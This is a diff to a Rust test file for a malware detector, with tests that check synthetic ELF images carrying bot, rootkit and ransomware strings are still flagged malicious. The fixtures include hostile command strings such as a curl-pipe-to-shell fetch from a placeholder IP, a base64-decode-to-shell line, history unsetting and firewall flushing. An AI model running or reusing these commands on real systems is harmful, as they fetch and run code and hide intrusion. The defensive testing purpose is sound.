@@ -2,7 +2,7 @@
 
 use analyzers::{Analyzer, Findings, Incomplete, Indicator, Limit, Sample, Verdict};
 use daemon_engine::{Analyzers, Cancel, Limits, Report, RuleSet, assemble, examine};
-use testkit::elf::{self, ET_EXEC, R, W, X, elf};
+use testkit::elf::{self, R, X, elf};
 use testkit::pe::{self, CODE, DATA, WRITABLE_CODE, pe};
 use triage::FileKind;
 
@@ -97,20 +97,63 @@ fn a_upx_like_elf_with_bot_vocabulary_is_malicious() {
     check(&image, Verdict::Malicious, &["elf.string.flood_vocabulary", "elf.packer.upx_magic"]);
 }
 
+/// The bundle of tools that devices have: its texts, a table of tools in order, and as much code as they need.
+fn bundle_of_tools(words: &[&str]) -> Vec<u8> {
+    let tools: Vec<String> =
+        (0..100).map(|number| format!("m{number:03}")).chain(["mkdir".into(), "mount".into()]).collect();
+    let texts =
+        ["BusyBox v1.36.1", "multi-call binary", "%s: applet not found", "/proc/net/tcp", "GET /%s HTTP/1.1\r\n"];
+    let table = tools.join("\0");
+    let words: Vec<&str> = texts.iter().chain(words).copied().chain([&table[..]]).collect();
+    elf().load(R | X, vec![0x90; 256 << 10]).strings(&words).build()
+}
+
 #[test]
 fn a_bot_stays_malicious_whatever_honest_words_it_adds() {
-    // The names of a multi-call program's applets are easily added to any file.
-    let applets = "[\0[[\0ash\0awk\0basename\0blkid\0brctl\0cat\0chmod\0chown\0chroot\0cp\0cut\0date\0dd\0df\0dmesg\0du\0echo\0\
-        egrep\0env\0expr\0false\0fdisk\0find\0free\0fsck\0getty\0grep\0gunzip\0gzip\0halt\0head\0hostname\0httpd\0id\0ifconfig\0\
-        init\0insmod\0kill\0killall\0ln\0login\0ls\0lsmod\0mkdir\0mkfifo\0mknod\0modprobe\0more\0mount\0mv\0nc\0netstat\0nslookup\0\
-        passwd\0ping\0ps\0pwd\0reboot\0rm\0rmdir\0rmmod\0route\0sed\0sh\0sleep\0sort\0stty\0sync\0syslogd\0tail\0tar\0telnet\0telnetd\0\
-        test\0tftp\0top\0touch\0tr\0traceroute\0true\0tty\0umount\0uname\0uniq\0uptime\0vi\0wc\0wget\0which\0xargs\0yes\0zcat\0BusyBox v1.30.1";
-    let image = elf()
-        .elf_type(ET_EXEC)
-        .load(R | X, elf::noise(4096, 1))
-        .load(R | W, [BOT_WORDS.join("\0").as_bytes(), applets.as_bytes()].concat())
-        .build();
-    check(&image, Verdict::Malicious, &["elf.string.flood_vocabulary"]);
+    const EXCUSE: &str = "elf.file.multi_call_tools";
+    let sees_excuse = |report: &Report| report.evidence.iter().any(|seen| seen.indicator.as_str() == EXCUSE);
+    // The bundle itself shows what bots show, and is excused as far as that it is not called one.
+    let honest = report(&bundle_of_tools(&[]));
+    assert!(sees_excuse(&honest), "{:#?}", honest.evidence);
+    assert_eq!(honest.opinion.verdict, Verdict::Unknown, "p = {}", honest.opinion.p_malicious);
+    // All of that is easily added to a bot, and excuses none.
+    let kinds: [&[&str]; 4] = [
+        BOT_WORDS,
+        &["hacked_getdents64", "/etc/ld.so.preload", "chmod +x /tmp/.x/run", "curl -s http://198.51.100.7/a.sh | sh"],
+        &["README_TO_DECRYPT", "your files have been encrypted", "chmod +x /tmp/enc", "pkill -9 mysqld"],
+        &["chmod +x /tmp/x", "unset HISTFILE", "iptables -F", "echo ZWNobyBoaQ== | base64 -d | sh"],
+    ];
+    for words in kinds {
+        let report = report(&bundle_of_tools(words));
+        assert_eq!(report.opinion.verdict, Verdict::Malicious, "{words:?}: p = {}", report.opinion.p_malicious);
+        assert!(!sees_excuse(&report), "{words:?}");
+    }
+}
+
+#[test]
+fn an_elf_that_nobody_can_account_for_is_not_benign() {
+    let noted = |program: Vec<u8>| {
+        let end = elf::ordinary().build().len() as u64 + 56;
+        elf::ordinary().segment(elf::segment(4).offset(end).file_size(1 << 20)).overlay(program).build()
+    };
+    let calm = elf().load(R | X, [0x90; 4096]).build();
+    let bot = elf().load(R | X, [0x90; 4096]).load(R, BOT_WORDS.join("\0")).build();
+    for (image, verdict) in [
+        (elf::ordinary().overlay([0; 300]).build(), Verdict::Benign),
+        (elf::ordinary().overlay([b"PK\x03\x04", &[0x41; 300][..]].concat()).build(), Verdict::Unknown),
+        (elf::ordinary().overlay([b"#!/bin/sh\n", &[0x41; 300][..]].concat()).build(), Verdict::Unknown),
+        (elf::ordinary().overlay(elf::noise(4096, 2)).build(), Verdict::Unknown),
+        // A program behind a program is examined: it is as bad as it is.
+        (noted(calm.clone()), Verdict::Benign),
+        (noted(bot.clone()), Verdict::Malicious),
+        (elf::ordinary().overlay(&bot).build(), Verdict::Malicious),
+        // Packed, and one header more than a packer writes.
+        (elf::upx_like().build(), Verdict::Unknown),
+        (elf::upx_like().segment(elf::segment(elf::PT_DYNAMIC)).build(), Verdict::Unknown),
+    ] {
+        let report = report(&image);
+        assert_eq!(report.opinion.verdict, verdict, "p = {}: {:?}", report.opinion.p_malicious, report.incomplete);
+    }
 }
 
 #[test]
